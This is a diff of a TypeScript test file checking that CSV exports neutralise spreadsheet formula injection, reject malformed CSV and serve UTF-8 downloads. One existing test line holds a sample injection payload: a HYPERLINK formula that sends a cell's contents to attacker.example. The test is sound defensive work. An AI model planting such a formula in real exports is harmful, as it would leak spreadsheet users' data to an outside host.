@@ -1,6 +1,6 @@
 /** The CSV downloads round-trip through a parser: what a spreadsheet reads is what the generator meant. */
 import { describe, expect, it } from 'vitest';
-import { parseCsv, toCsv, CSV_BOM } from '../../src/lib/csv.ts';
+import { csvResponse, parseCsv, toCsv, CSV_BOM } from '../../src/lib/csv.ts';
 import { buildMatrix, cellText, matrixColumns, matrixRows, matrixTable } from '../../src/lib/matrix.ts';
 import { buildChecklists, checklistTable, CHECKLIST_CSV_HEADER, sourceKey } from '../../src/lib/checklists.ts';
 import { fixtureModel, realModel } from '../fixtures/generated/model.ts';
@@ -42,6 +42,28 @@ describe('toCsv', () => {
         .slice(1)
         .map(([c]) => c),
     ).toEqual(['\'=HYPERLINK("https://attacker.example/?d="&A1,\n"open")', "'+1\n2", "'\n=1", 'ok\n=1']);
+  });
+});
+
+describe('parseCsv and csvResponse', () => {
+  it('defuses every formula start: = + - @, a tab, a carriage return, a line break', () => {
+    const cells = ['=1', '+1', '-1', '@1', '\t1', '\r1', '\n1'];
+    expect(
+      parseCsv(toCsv([['h'], ...cells.map((c) => [c])]))
+        .slice(1)
+        .map(([c]) => c),
+    ).toEqual(cells.map((c) => `'${c}`));
+  });
+  it('refuses text that is not CSV, naming the row', () => {
+    expect(() => parseCsv('a,b\r\n"unclosed,c')).toThrow(/^invalid CSV: row 1: /);
+  });
+  it('serves the CSV as a UTF-8 download under the given file name', async () => {
+    const response = csvResponse([['a'], ['部门']], 'matrix.csv');
+    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="matrix.csv"');
+    // The bytes, not response.text(): a text decoder drops the byte order mark Excel needs.
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect(bytes.toString('utf8')).toBe(`${CSV_BOM}a\r\n部门`);
   });
 });
 
